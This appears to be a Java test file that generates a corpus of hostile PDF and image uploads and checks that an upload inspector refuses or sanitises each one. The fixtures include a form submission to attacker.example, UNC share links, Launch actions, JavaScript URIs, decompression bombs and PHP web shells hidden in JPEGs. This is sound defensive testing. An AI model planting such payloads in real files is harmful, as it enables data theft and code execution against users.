package nl.recordsdesk.uploads;

import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.util.unit.DataSize;

import static nl.recordsdesk.uploads.HostileFiles.action;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/**
 * The project's own corpus of hostile files, made when the tests run, each refused for
 * its own reason or, for an image with something behind or inside it, kept as the plain
 * picture alone; and valid files of every kind a requester sends, none refused. The files
 * are made lazily, one at a time, so a run holds one in memory.
 */
class HostileUploadCorpusTests {

	static final UploadInspector inspector = UploadInspectorTests.inspector;

	static Stream<Arguments> hostile() {
		return Stream.of(
				// Polyglots: a PDF that is also a web page, an archive, a script.
				hostile("PDF whose header comment is HTML with script", Reason.PDF_FOREIGN_DATA,
						HostileFiles::pdfWithHtmlInItsHeader),
				hostile("PDF with a ZIP holding an .exe appended", Reason.PDF_FOREIGN_DATA,
						HostileFiles::pdfWithZipAppended),
				hostile("PDF with a ZIP between its objects", Reason.PDF_FOREIGN_DATA,
						HostileFiles::pdfWithZipBetweenItsObjects),
				hostile("PDF with HTML after %%EOF", Reason.PDF_FOREIGN_DATA,
						() -> HostileFiles.pdfWithAfterTheEnd(HostileFiles.HTML)),
				hostile("PDF with EICAR after %%EOF", Reason.PDF_FOREIGN_DATA,
						() -> HostileFiles.pdfWithAfterTheEnd(HostileFiles.EICAR)),
				hostile("PDF with a comment after %%EOF", Reason.PDF_FOREIGN_DATA,
						() -> HostileFiles.pdfWithAfterTheEnd("\n% nothing to see\n")),
				hostile("PDF with an object after the last %%EOF", Reason.PDF_FOREIGN_DATA,
						() -> HostileFiles.pdfWithAfterTheEnd("\n9 0 obj\n<< /JS (app.alert(1)) >>\nendobj\n")),
				hostile("bytes before %PDF-", Reason.PDF_FOREIGN_DATA, () -> HostileFiles.pdfWithBytesBefore("junk\n")),
				hostile("a BOM before %PDF-", Reason.PDF_FOREIGN_DATA,
						() -> HostileFiles.pdfWithBytesBefore("\u00ef\u00bb\u00bf")),
				// Actions and content that acts.
				hostile("/OpenAction /SubmitForm to a URL", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithOpenAction(
								action("SubmitForm", "F", HostileFiles.urlFile("https://attacker.example/collect")))),
				hostile("/GoToR to a UNC path", Reason.PDF_UNSAFE_LINK,
						() -> HostileFiles.pdfWithLinkAction(action("GoToR", "F", "\\\\attacker.example\\share\\x.pdf",
								"D", new COSArray(java.util.List.of(COSInteger.ZERO, COSName.getPDFName("Fit")))))),
				hostile("/URI (javascript:...)", Reason.PDF_UNSAFE_LINK,
						() -> HostileFiles.pdfWithLinkAction(action("URI", "URI", "javascript:app.alert(1)"))),
				hostile("/URI ( JaVaScRiPt:...) hidden by case and a space", Reason.PDF_UNSAFE_LINK,
						() -> HostileFiles.pdfWithLinkAction(action("URI", "URI", " JaVaScRiPt:app.alert(1)"))),
				hostile("/URI to a file", Reason.PDF_UNSAFE_LINK,
						() -> HostileFiles
							.pdfWithLinkAction(action("URI", "URI", "file:///C:/Windows/System32/calc.exe"))),
				hostile("/URI to a share", Reason.PDF_UNSAFE_LINK,
						() -> HostileFiles.pdfWithLinkAction(action("URI", "URI", "\\\\attacker.example\\share"))),
				hostile("/URI with a tab in its scheme", Reason.PDF_UNSAFE_LINK,
						() -> HostileFiles.pdfWithLinkAction(action("URI", "URI", "java\tscript:alert(1)"))),
				hostile("/OpenAction /URI (javascript:...)", Reason.PDF_UNSAFE_LINK,
						() -> HostileFiles.pdfWithOpenAction(action("URI", "URI", "javascript:app.alert(1)"))),
				hostile("/GoToE", Reason.PDF_UNSAFE_LINK, () -> HostileFiles.pdfWithLinkAction(action("GoToE"))),
				hostile("/Launch", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithLinkAction(action("Launch", "F", "C:\\Windows\\System32\\calc.exe"))),
				hostile("/ImportData", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithLinkAction(action("ImportData", "F", "data.fdf"))),
				hostile("/ResetForm", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithLinkAction(action("ResetForm"))),
				hostile("/Named other than a page turn", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithLinkAction(action("Named", "N", COSName.getPDFName("SaveAs")))),
				hostile("an action without a kind", Reason.PDF_ACTIVE_CONTENT, () -> {
					COSDictionary none = new COSDictionary();
					none.setItem(COSName.TYPE, COSName.getPDFName("Action"));
					return HostileFiles.pdfWithLinkAction(none);
				}),
				hostile("JavaScript as the next action of a GoTo", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithLinkAction(action("GoTo", "D",
								new COSArray(java.util.List.of(COSInteger.ZERO, COSName.getPDFName("Fit"))), "Next",
								action("JavaScript", "JS", "app.alert(1)")))),
				hostile("JavaScript open action", Reason.PDF_ACTIVE_CONTENT,
						() -> UploadFixtures.pdf((document) -> document.getDocumentCatalog()
							.setOpenAction(new PDActionJavaScript("app.alert('hallo');")))),
				hostile("JavaScript in the names tree", Reason.PDF_ACTIVE_CONTENT,
						() -> UploadFixtures.pdf((document) -> {
							PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
							scripts.setNames(Map.of("init", new PDActionJavaScript("app.alert('hallo');")));
							PDDocumentNameDictionary names = new PDDocumentNameDictionary(
									document.getDocumentCatalog());
							names.setJavascript(scripts);
							document.getDocumentCatalog().setNames(names);
						})),
				hostile("an action when a page opens (AA)", Reason.PDF_ACTIVE_CONTENT,
						() -> UploadFixtures.pdf((document) -> {
							PDPageAdditionalActions actions = document.getPage(0).getActions();
							actions.getCOSObject()
								.setItem(COSName.O, action("GoTo", "D",
										new COSArray(java.util.List.of(COSInteger.ZERO, COSName.getPDFName("Fit")))));
							document.getPage(0).setActions(actions);
						})),
				hostile("XFA form", Reason.PDF_ACTIVE_CONTENT, () -> UploadFixtures.pdf((document) -> {
					PDAcroForm form = new PDAcroForm(document);
					form.getCOSObject().setItem(COSName.XFA, new COSString("<xdp:xdp/>"));
					document.getDocumentCatalog().setAcroForm(form);
				})),
				hostile("a Screen (media) annotation", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithAnnotation("Screen")),
				hostile("a RichMedia annotation", Reason.PDF_ACTIVE_CONTENT,
						() -> HostileFiles.pdfWithAnnotation("RichMedia")),
				// Files inside.
				hostile("an embedded file in the names tree", Reason.PDF_EMBEDDED_FILE,
						UploadInspectorTests.Pdfs::embeddedFilePdf),
				hostile("a file attachment annotation holding EICAR", Reason.PDF_EMBEDDED_FILE,
						HostileFiles::pdfWithFileAttachmentAnnotation),
				// Encrypted, broken, bombs.
				hostile("encrypted with a password", Reason.PDF_ENCRYPTED,
						() -> UploadInspectorTests.Pdfs.encrypted("eigenaar", "gebruiker")),
				hostile("encrypted with only an owner password", Reason.PDF_ENCRYPTED,
						() -> UploadInspectorTests.Pdfs.encrypted("eigenaar", "")),
				hostile("a PDF cut off halfway", Reason.PDF_UNREADABLE, () -> {
					byte[] pdf = HostileFiles.pdfWithTextImageAndLinks();
					return java.util.Arrays.copyOf(pdf, pdf.length / 2);
				}), hostile("a PDF header with noise", Reason.PDF_UNREADABLE, UploadFixtures::corruptPdf),
				hostile("objects nested 5000 deep", Reason.PDF_UNREADABLE, HostileFiles::pdfNestedTooDeeply),
				hostile("a 300 KB PDF whose content stream inflates to 300 MB", Reason.PDF_TOO_LARGE_UNPACKED,
						() -> HostileFiles.pdfWithContent(HostileFiles.deflatedZeros(300))),
				hostile("40 pages of 8 MB each, a bomb together", Reason.PDF_TOO_LARGE_UNPACKED,
						() -> HostileFiles.pdfWithPagesOf(40, 8)),
				hostile("a bomb compressed twice (FlateDecode FlateDecode)", Reason.PDF_TOO_LARGE_UNPACKED,
						HostileFiles::pdfWithDoublyDeflatedBomb),
				hostile("a bomb that says it is a 10 x 10 image, used as a page's content",
						Reason.PDF_TOO_LARGE_UNPACKED, HostileFiles::pdfWithBombPosingAsImage),
				hostile("a bomb in an object stream nothing refers to", Reason.PDF_TOO_LARGE_UNPACKED,
						HostileFiles::pdfWithUnreferencedObjectStreamBomb),
				hostile("an image XObject claiming 100000 x 100000 pixels", Reason.PDF_TOO_LARGE_UNPACKED,
						() -> HostileFiles.pdfWithImageClaiming(100_000, 100_000)),
				// Not a PDF, JPEG or PNG, whatever the name says.
				hostile("HTML renamed .pdf", Reason.TYPE_NOT_ALLOWED,
						() -> HostileFiles.HTML.getBytes(StandardCharsets.UTF_8)),
				hostile("SVG with a script", Reason.TYPE_NOT_ALLOWED, () -> UploadFixtures.text(
						"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")),
				hostile("EICAR renamed .pdf", Reason.TYPE_NOT_ALLOWED, () -> UploadFixtures.text(HostileFiles.EICAR)),
				hostile("a GIF with a JAR appended (GIFAR)", Reason.TYPE_NOT_ALLOWED, HostileFiles::gifWithZip),
				hostile("a Windows program", Reason.TYPE_NOT_ALLOWED, UploadFixtures::windowsExecutable),
				hostile("PostScript renamed .pdf", Reason.TYPE_NOT_ALLOWED,
						() -> UploadFixtures
							.text("%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\nshowpage\n")),
				hostile("zero bytes", Reason.EMPTY, () -> new byte[0]),
				// Images that are not whole.
				hostile("a JPEG cut off halfway", Reason.IMAGE_UNREADABLE, HostileFiles::truncatedJpeg),
				hostile("a PNG with a broken CRC", Reason.IMAGE_UNREADABLE, HostileFiles::pngWithBrokenCrc),
				hostile("a PNG cut off halfway", Reason.IMAGE_UNREADABLE, () -> {
					byte[] png = HostileFiles.pngWithAlpha();
					return java.util.Arrays.copyOf(png, png.length / 2);
				}),
				hostile("a PNG that claims pixels it has no data for", Reason.IMAGE_UNREADABLE,
						() -> UploadFixtures.pngHeaderOnly(100, 100)),
				hostile("a JPEG with a bogus frame header (0 x 0)", Reason.IMAGE_UNREADABLE,
						HostileFiles::jpegWithBogusFrame),
				hostile("a JPEG whose frame claims 200 components", Reason.IMAGE_UNREADABLE,
						HostileFiles::jpegWithImpossibleComponents),
				hostile("a JPEG header with nothing after it", Reason.IMAGE_UNREADABLE,
						() -> java.util.Arrays.copyOf(UploadFixtures.jpeg(64, 64), 4)),
				// Images too large to decode.
				hostile("a PNG whose header claims 60000 x 60000 pixels", Reason.IMAGE_TOO_LARGE,
						() -> UploadFixtures.pngHeaderOnly(60_000, 60_000)),
				hostile("a JPEG whose frame claims 60000 x 60000 pixels", Reason.IMAGE_TOO_LARGE,
						() -> UploadFixtures.jpegClaiming(UploadFixtures.jpeg(64, 64), 60_000, 60_000)));
	}

	/**
	 * Images with something behind or inside them: kept, but only as the picture,
	 * re-encoded, with what was behind or inside it gone.
	 */
	static Stream<Arguments> neutralised() {
		return Stream.of(
				neutralised("a JPEG with a PHP web shell after its end", HostileFiles::jpegWithWebShell, "<?php"),
				neutralised("a PNG with HTML after IEND", HostileFiles::pngWithHtmlAfterIend, "<script"),
				neutralised("a JPEG with EICAR after its end",
						() -> HostileFiles.jpegWithAfterItsEnd(HostileFiles.EICAR), "EICAR-STANDARD"),
				neutralised("a JPEG with a ZIP appended (JPEG+JAR)",
						() -> UploadFixtures.concat(UploadFixtures.jpeg(100, 100),
								UploadFixtures.zip(Map.of("a.class", new byte[16]))),
						"PK\u0003\u0004"),
				neutralised("a PNG with a ZIP appended",
						() -> UploadFixtures.concat(UploadFixtures.png(100, 100),
								UploadFixtures.zip(Map.of("a.exe", UploadFixtures.windowsExecutable()))),
						"PK\u0003\u0004"),
				neutralised("a JPEG with a PHP web shell in its comment",
						() -> HostileFiles.jpegWithSegment(0xfe,
								HostileFiles.WEB_SHELL.getBytes(StandardCharsets.US_ASCII)),
						"<?php"),
				neutralised("a JPEG with HTML in its XMP",
						() -> HostileFiles.jpegWithSegment(0xe1,
								("http://ns.adobe.com/xap/1.0/\0" + HostileFiles.HTML)
									.getBytes(StandardCharsets.UTF_8)),
						"<script"),
				neutralised("a PNG with HTML in a text chunk",
						() -> HostileFiles.pngWithText("Comment", HostileFiles.HTML), "<script"));
	}

	static Stream<Arguments> valid() {
		return Stream.of(valid("a PDF made with PDFBox, with text", "application/pdf", UploadFixtures::pdf),
				valid("a PDF with text, a photo, a transparent logo and links to https and mailto", "application/pdf",
						HostileFiles::pdfWithTextImageAndLinks),
				valid("a PDF of 12 pages", "application/pdf", () -> HostileFiles.pdfWithPages(12)),
				valid("a PDF with bookmarks, a table of contents, page turns and an open-at-page", "application/pdf",
						HostileFiles::pdfWithNavigation),
				valid("a PDF form filled in, sending nothing", "application/pdf", HostileFiles::pdfWithFormField),
				valid("a PDF with an incremental update (two %%EOF)", "application/pdf",
						HostileFiles::pdfWithIncrementalUpdate),
				valid("a PDF without compression (an xref table)", "application/pdf",
						HostileFiles::pdfWithoutCompression),
				valid("a PDF ending with CRLF", "application/pdf",
						() -> UploadFixtures.concat(UploadFixtures.pdf(), "\r\n".getBytes(StandardCharsets.US_ASCII))),
				valid("a PDF with a NUL-padded trailer", "application/pdf",
						() -> UploadFixtures.concat(UploadFixtures.pdf(), new byte[512])),
				valid("a PDF laid out from HTML (openhtmltopdf), with links", "application/pdf",
						HostileFiles::pdfFromHtml),
				valid("a PDF whose page unpacks to 8 MB (within the budget)", "application/pdf",
						() -> HostileFiles.pdfWithContent(HostileFiles.deflatedZeros(8))),
				valid("a PDF with an A4 scan at 300 dpi kept losslessly (26 MB of pixels)", "application/pdf",
						HostileFiles::pdfWithLosslessScan),
				valid("a scanned-looking JPEG", "image/jpeg", () -> HostileFiles.scannedJpeg(1240, 1754)),
				valid("a progressive JPEG", "image/jpeg", HostileFiles::progressiveJpeg),
				valid("a grey JPEG", "image/jpeg", HostileFiles::grayJpeg),
				valid("a JPEG with Exif data and a comment", "image/jpeg", HostileFiles::jpegWithExifAndComment),
				valid("a PNG with alpha", "image/png", HostileFiles::pngWithAlpha),
				valid("a palette PNG", "image/png", HostileFiles::palettePng),
				valid("a 16-bit grey PNG", "image/png", HostileFiles::sixteenBitGrayPng),
				valid("an interlaced PNG", "image/png", HostileFiles::interlacedPng),
				valid("a PNG with a text chunk naming its software", "image/png", HostileFiles::pngWithSoftwareText),
				valid("a Samsung Galaxy photo (a SEFH/SEFT trailer after EOI)", "image/jpeg",
						HostileFiles::samsungPhoto),
				valid("a motion photo (an MP4 video after EOI)", "image/jpeg", HostileFiles::motionPhoto),
				valid("a phone photo with Exif, GPS and orientation 1", "image/jpeg",
						() -> HostileFiles.jpegWithOrientation(400, 300, 1)));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("hostile")
	void isRefused(String kind, Reason reason, Supplier<byte[]> file) {
		RejectedUpload rejected = catchThrowableOfType(RejectedUpload.class,
				() -> inspector.inspect(file.get(), "bijlage.pdf"));
		assertThat(rejected).as("refused").isNotNull();
		assertThat(rejected.reason()).isEqualTo(reason);
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("valid")
	void isAccepted(String kind, String contentType, Supplier<byte[]> file) throws RejectedUpload {
		byte[] content = file.get();
		InspectedUpload upload = inspector.inspect(content, "bijlage");
		assertThat(upload.contentType()).isEqualTo(contentType);
		if (contentType.equals("application/pdf")) {
			// A PDF is kept as it came.
			assertThat(upload.content()).isEqualTo(content);
		}
		else {
			// An image is kept as the same picture, re-encoded, without its metadata.
			assertSamePicture(upload, content);
			assertThat(HostileFiles.holds(upload.content(), "Exif\0\0".getBytes(StandardCharsets.ISO_8859_1)))
				.isFalse();
		}
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("neutralised")
	void isKeptAsAPlainPicture(String kind, Supplier<byte[]> file, String foreign) throws RejectedUpload {
		byte[] content = file.get();
		assertThat(HostileFiles.holds(content, foreign.getBytes(StandardCharsets.ISO_8859_1))).isTrue();
		InspectedUpload upload = inspector.inspect(content, "bijlage.php");
		assertSamePicture(upload, content);
		assertThat(upload.safeFileName()).endsWith(upload.contentType().equals("image/png") ? ".png" : ".jpg");
		for (String marker : new String[] { foreign, "<?php", "<script", "<html", "PK\u0003\u0004", "EICAR" }) {
			assertThat(HostileFiles.holds(upload.content(), marker.getBytes(StandardCharsets.ISO_8859_1)))
				.as("holds %s", marker)
				.isFalse();
		}
	}

	/** A phone photo turned on its side (Exif orientation 6) is kept upright. */
	@Test
	void aPhotoIsTurnedAsItsExifOrientationSays() throws RejectedUpload {
		InspectedUpload upload = inspector.inspect(HostileFiles.jpegWithOrientation(400, 200, 6), "id.jpg");
		java.awt.image.BufferedImage upright = HostileFiles.decoded(upload.content());
		assertThat(upright.getWidth()).isEqualTo(200);
		assertThat(upright.getHeight()).isEqualTo(400);
		// The red quarter at the stored picture's top left is now at the top right.
		assertThat(new java.awt.Color(upright.getRGB(150, 50)).getRed()).isGreaterThan(200);
		assertThat(new java.awt.Color(upright.getRGB(150, 50)).getGreen()).isLessThan(60);
		assertThat(new java.awt.Color(upright.getRGB(50, 50)).getGreen()).isGreaterThan(200);
		assertThat(new java.awt.Color(upright.getRGB(150, 350)).getGreen()).isGreaterThan(200);
	}

	@ParameterizedTest(name = "orientation {0}")
	@org.junit.jupiter.params.provider.ValueSource(ints = { 2, 3, 4, 5, 7, 8 })
	void everyOrientationKeepsThePicturesSizeOrTurnsIt(int orientation) throws RejectedUpload {
		java.awt.image.BufferedImage upright = HostileFiles
			.decoded(inspector.inspect(HostileFiles.jpegWithOrientation(400, 200, orientation), "id.jpg").content());
		boolean across = orientation >= 5;
		assertThat(upright.getWidth()).isEqualTo(across ? 200 : 400);
		assertThat(upright.getHeight()).isEqualTo(across ? 400 : 200);
		// Where the red quarter lands: left or right, top or bottom.
		int redX = (orientation == 2 || orientation == 3 || orientation == 6 || orientation == 7) ? 3 : 1;
		int redY = (orientation == 3 || orientation == 4 || orientation == 7 || orientation == 8) ? 3 : 1;
		int x = upright.getWidth() * redX / 4;
		int y = upright.getHeight() * redY / 4;
		assertThat(new java.awt.Color(upright.getRGB(x, y)).getGreen()).as("red at %d, %d", x, y).isLessThan(60);
	}

	/** A CMYK JPEG is kept as an RGB JPEG, its colours converted. */
	@Test
	void aCmykJpegIsKeptInRgb() throws RejectedUpload {
		java.awt.image.BufferedImage kept = HostileFiles
			.decoded(inspector.inspect(HostileFiles.cmykJpeg(), "scan.jpg").content());
		assertThat(kept.getColorModel().getColorSpace().isCS_sRGB()).isTrue();
		java.awt.Color cyan = new java.awt.Color(kept.getRGB(80, 120));
		assertThat(cyan.getRed()).isLessThan(80);
		assertThat(cyan.getGreen()).isGreaterThan(150);
		assertThat(cyan.getBlue()).isGreaterThan(150);
		java.awt.Color white = new java.awt.Color(kept.getRGB(240, 120));
		assertThat(white.getRed()).isGreaterThan(230);
	}

	private static void assertSamePicture(InspectedUpload upload, byte[] original) {
		java.awt.image.BufferedImage kept = HostileFiles.decoded(upload.content());
		java.awt.image.BufferedImage sent = HostileFiles.decoded(original);
		assertThat(kept.getWidth()).isEqualTo(sent.getWidth());
		assertThat(kept.getHeight()).isEqualTo(sent.getHeight());
		assertThat(kept.getColorModel().hasAlpha()).isEqualTo(sent.getColorModel().hasAlpha());
		assertThat(upload.size()).isEqualTo(upload.content().length);
		assertThat(upload.sha256Hex()).isEqualTo(sha256(upload.content()));
	}

	private static String sha256(byte[] bytes) {
		try {
			return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(bytes));
		}
		catch (java.security.NoSuchAlgorithmException ex) {
			throw new IllegalStateException(ex);
		}
	}

	/**
	 * A bomb that would take the heap (and more than any array can hold) if it were
	 * unpacked whole: 8 GB of zeros in an 8 MB file. The inspector returns with a
	 * refusal, having unpacked no more than its budget.
	 */
	@Test
	void aBombThatWouldNotFitInTheHeapIsRefused() {
		assertThat(Runtime.getRuntime().maxMemory()).isLessThan(8L * 1024 * 1024 * 1024);
		byte[] bomb = HostileFiles.pdfWithContent(HostileFiles.deflatedZeros(8 * 1024));
		assertThat(bomb.length).isLessThan(10 * 1024 * 1024);
		RejectedUpload rejected = catchThrowableOfType(RejectedUpload.class, () -> inspector.inspect(bomb, "a.pdf"));
		assertThat(rejected.reason()).isEqualTo(Reason.PDF_TOO_LARGE_UNPACKED);
	}

	/**
	 * Without clamd a file with a virus in an allowed form is kept, marked as not scanned
	 * (the health details and the start-up log say so); with clamd it is refused.
	 */
	@Test
	void eicarInsideAPlainPdfIsRefusedByClamdAndOnlyByClamd() throws Exception {
		byte[] pdf = HostileFiles.save(eicarDocument(),
				org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
		assertThat(inspector.inspect(pdf, "a.pdf").scanStatus()).isEqualTo(ScanStatus.NOT_CONFIGURED);
		assertThat(inspector.virusScanConfigured()).isFalse();
		try (FakeClamd clamd = FakeClamd.finding("EICAR-STANDARD-ANTIVIRUS-TEST-FILE")) {
			UploadInspector scanned = UploadInspectorTests.inspector(DataSize.ofMegabytes(10), 50_000_000,
					new UploadProperties.Clamd(InetAddress.getLoopbackAddress().getHostAddress(), clamd.port(),
							Duration.ofSeconds(5)));
			assertThat(scanned.virusScanConfigured()).isTrue();
			RejectedUpload rejected = catchThrowableOfType(RejectedUpload.class, () -> scanned.inspect(pdf, "a.pdf"));
			assertThat(rejected.reason()).isEqualTo(Reason.INFECTED);
			assertThat(scanned.inspect(UploadFixtures.pdf(), "b.pdf").scanStatus()).isEqualTo(ScanStatus.CLEAN);
		}
	}

	private static org.apache.pdfbox.pdmodel.PDDocument eicarDocument() {
		org.apache.pdfbox.pdmodel.PDDocument document = UploadFixtures.pdfDocument();
		document.getDocumentInformation().setTitle(HostileFiles.EICAR);
		return document;
	}

	/** The valid incremental update is one: two revisions, each ending in %%EOF. */
	@Test
	void anIncrementalUpdateHasTwoEndsAndIsAccepted() throws RejectedUpload {
		byte[] pdf = HostileFiles.pdfWithIncrementalUpdate();
		String text = new String(pdf, StandardCharsets.ISO_8859_1);
		assertThat(text.split("%%EOF", -1)).hasSize(3);
		assertThat(inspector.inspect(pdf, "a.pdf").contentType()).isEqualTo("application/pdf");
	}

	@Test
	void theCorpusIsLargeEnough() {
		assertThat(hostile().count() + neutralised().count()).isGreaterThanOrEqualTo(60);
		assertThat(valid().count()).isGreaterThanOrEqualTo(20);
	}

	@Test
	void everyReasonOfTheFileItselfIsInTheCorpus() {
		assertThat(hostile().map((arguments) -> arguments.get()[1]).distinct()).containsAll(Stream.of(Reason.values())
			.filter((reason) -> reason != Reason.TOO_LARGE && reason != Reason.INFECTED && reason != Reason.BUSY)
			.toList());
	}

	private static Arguments hostile(String kind, Reason reason, Supplier<byte[]> file) {
		return Arguments.of(kind, reason, file);
	}

	private static Arguments neutralised(String kind, Supplier<byte[]> file, String foreign) {
		return Arguments.of(kind, file, foreign);
	}

	private static Arguments valid(String kind, String contentType, Supplier<byte[]> file) {
		return Arguments.of(kind, contentType, file);
	}

}
